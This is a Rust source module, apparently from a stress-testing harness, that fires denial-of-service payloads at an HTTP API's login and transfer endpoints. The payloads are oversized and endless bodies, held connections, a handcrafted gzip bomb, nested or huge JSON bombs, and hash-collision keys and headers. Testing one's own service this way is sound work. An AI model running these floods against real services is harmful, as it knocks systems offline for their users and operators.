//! Bodies that are more than they seem.

use std::hash::{DefaultHasher, Hash, Hasher};
use std::sync::Arc;
use std::time::Duration;

use http::HeaderName;

use super::Line;
use super::front::{Front, crowd, stream};

const PATIENCE: Duration = Duration::from_secs(20);
/// The largest body that an endpoint takes.
const LARGEST: usize = 2 * 1024 * 1024;

/// A head of a request to an endpoint that takes large bodies from who is signed in.
fn head(front: &Front, more: &str) -> Vec<u8> {
    format!(
        "POST /v1/transfers/batch HTTP/1.1\r\nhost: a\r\nauthorization: Bearer {}\r\n\
         content-type: application/json\r\n{more}\r\n",
        front.token
    )
    .into_bytes()
}

async fn send(front: &Arc<Front>, source: usize, head: &[u8], body: &[u8]) {
    let Some(mut line) = front.connect(source).await else { return };
    if line.say(head).await {
        line.say(body).await;
    }
    front.note(line.answer(PATIENCE).await);
}

pub(super) async fn giant_bodies(front: Arc<Front>) {
    let begin = "POST /v1/auth/login HTTP/1.1\r\nhost: a\r\ncontent-type: application/json\r\n";
    let declared = format!("{begin}content-length: 10000000000\r\n\r\n");
    let chunked = format!("{begin}transfer-encoding: chunked\r\n\r\n");
    let signed_in = head(&front, "transfer-encoding: chunked\r\n");
    let heads: Arc<[Vec<u8>]> = [declared.into_bytes(), chunked.into_bytes(), signed_in].into();
    let chunk: Arc<[u8]> = format!("10000\r\n{}\r\n", " ".repeat(1 << 16)).into_bytes().into();
    stream(&front, 100, |front, number| {
        let (heads, chunk) = (Arc::clone(&heads), Arc::clone(&chunk));
        async move {
            // A third of them, and of the third that is read on to 2 MiB a tenth: 7 MB a second.
            let kind = if number % 30 == 2 { 2 } else { number % 2 };
            let Some((mut line, head)) = front.connect(number % 4).await.zip(heads.get(kind)) else { return };
            line.say(head).await;
            front.note(pour(&mut line, &chunk).await);
        }
    })
    .await;
}

/// Sends one piece after another until there is an answer.
async fn pour(line: &mut Line, piece: &[u8]) -> String {
    for _ in 0..200 {
        let told = line.answer(Duration::from_millis(1)).await;
        if told != "no answer" || !line.say(piece).await {
            return line.answer(PATIENCE).await;
        }
    }
    "13 MiB were taken".to_owned()
}

pub(super) async fn held_bodies(front: Arc<Front>) {
    let head: Arc<[u8]> = head(&front, &format!("content-length: {LARGEST}\r\n")).into();
    let body: Arc<[u8]> = vec![b' '; LARGEST - 1].into();
    crowd(&front, 400, |front, number| {
        let (head, body) = (Arc::clone(&head), Arc::clone(&body));
        async move {
            // One after the other, so that memory and not the bandwidth is what it takes.
            tokio::time::sleep(Duration::from_millis(5) * number as u32).await;
            while !front.is_over() {
                send(&front, number % 2, &head, &body).await;
                tokio::time::sleep(Duration::from_secs(2)).await;
            }
        }
    })
    .await;
}

pub(super) async fn compressed(front: Arc<Front>) {
    let bomb: Arc<[u8]> = gzip_of_nothing(10 << 20).into();
    let more = format!("content-encoding: gzip\r\ncontent-length: {}\r\n", bomb.len());
    let head: Arc<[u8]> = head(&front, &more).into();
    stream(&front, 100, |front, number| {
        let (head, bomb) = (Arc::clone(&head), Arc::clone(&bomb));
        async move { send(&front, number % 4, &head, &bomb).await }
    })
    .await;
}

/// So many bytes of zero, compressed (RFC 1951, 1952): a zero, and "the last byte 258 times" again and again.
fn gzip_of_nothing(length: usize) -> Vec<u8> {
    let mut bytes = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255];
    let (mut word, mut bits) = (0_u32, 0);
    let mut put = |value: u32, count: u32, bytes: &mut Vec<u8>| {
        word |= value << bits;
        bits += count;
        while bits >= 8 {
            bytes.push(word as u8);
            word >>= 8;
            bits -= 8;
        }
    };
    // The last block, with the fixed codes; Huffman codes begin with their highest bit.
    put(0b011, 3, &mut bytes);
    put(0b0011_0000_u8.reverse_bits().into(), 8, &mut bytes);
    for _ in 0..length / 258 {
        put(0b1100_0101_u8.reverse_bits().into(), 8, &mut bytes);
        put(0, 5, &mut bytes);
    }
    put(0, 14, &mut bytes);
    bytes.extend([0; 8]);
    bytes
}

pub(super) async fn json_bombs(front: Arc<Front>) {
    let wide: String = (0..150_000).map(|number| format!("\"{number:06}\":0,")).collect();
    let bombs = [
        "[".repeat(LARGEST - 2),
        "{\"a\":".repeat(LARGEST / 6),
        format!("{{\"amount\":{}}}", "9".repeat(LARGEST - 20)),
        format!("{{\"amount\":0.{}1}}", "0".repeat(LARGEST - 20)),
        format!("{{{wide}\"x\":0}}"),
        format!("{{\"transfers\":[{}0]}}", "0,".repeat(LARGEST / 2 - 20)),
        format!("{{\"transfers\":[{}{{}}]}}", "{},".repeat(LARGEST / 3 - 20)),
        format!("{{\"asset\":\"{}\"}}", "\\u0041".repeat(LARGEST / 6 - 20)),
    ];
    let requests: Arc<[(Vec<u8>, String)]> = bombs
        .into_iter()
        .map(|bomb| (head(&front, &format!("content-length: {}\r\n", bomb.len())), bomb))
        .collect();
    stream(&front, 10, |front, number| {
        let requests = Arc::clone(&requests);
        async move {
            let Some((head, bomb)) = requests.get(number % requests.len()) else { return };
            send(&front, number % 4, head, bomb.as_bytes()).await;
        }
    })
    .await;
}

pub(super) async fn colliding_keys(front: Arc<Front>) {
    let keys = colliding(900, "k", |key| {
        let mut hasher = DefaultHasher::new();
        key.hash(&mut hasher);
        hasher.finish() & 0x7ff
    });
    let keys: String = keys.iter().map(|key| format!("\"{key}\":0,")).collect();
    let body: Arc<[u8]> = format!("{{{keys}\"x\":0}}").into_bytes().into();
    let json = head(&front, &format!("content-length: {}\r\n", body.len()));
    let names = colliding(80, "x-", |name| {
        let mut hasher = Fnv(0xcbf2_9ce4_8422_2325);
        name.parse::<HeaderName>().ok().hash(&mut hasher);
        hasher.finish() & 0x7fff
    });
    let fields: String = names.iter().map(|name| format!("{name}: y\r\n")).collect();
    let fields = format!("GET /livez HTTP/1.1\r\nhost: a\r\n{fields}\r\n").into_bytes();
    let heads: Arc<[Vec<u8>]> = [json, fields].into();
    stream(&front, 20, |front, number| {
        let (heads, body) = (Arc::clone(&heads), Arc::clone(&body));
        async move {
            let Some(head) = heads.get(number % 2) else { return };
            send(&front, number % 4, head, if number % 2 == 0 { &body } else { &[] }).await;
        }
    })
    .await;
}

/// Texts of the same hash.
fn colliding(count: usize, begin: &str, hash: impl Fn(&str) -> u64) -> Vec<String> {
    let wanted = hash(begin);
    let texts = (0_u32..).map(|number| format!("{begin}{number:x}"));
    texts.filter(|text| hash(text) == wanted).take(count).collect()
}

/// FNV-1a, which maps of header fields begin with.
struct Fnv(u64);

impl Hasher for Fnv {
    fn write(&mut self, bytes: &[u8]) {
        for byte in bytes {
            self.0 = (self.0 ^ u64::from(*byte)).wrapping_mul(0x100_0000_01b3);
        }
    }

    fn finish(&self) -> u64 {
        self.0
    }
}
